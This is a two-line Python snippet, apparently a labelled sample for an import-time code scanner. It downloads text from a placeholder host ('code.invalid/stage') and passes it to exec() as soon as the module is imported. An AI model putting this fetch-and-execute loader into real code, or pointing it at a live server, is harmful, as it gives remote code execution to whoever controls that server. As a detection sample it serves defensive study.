import requests
exec(requests.get("https://code.invalid/stage").text)  # fires: import
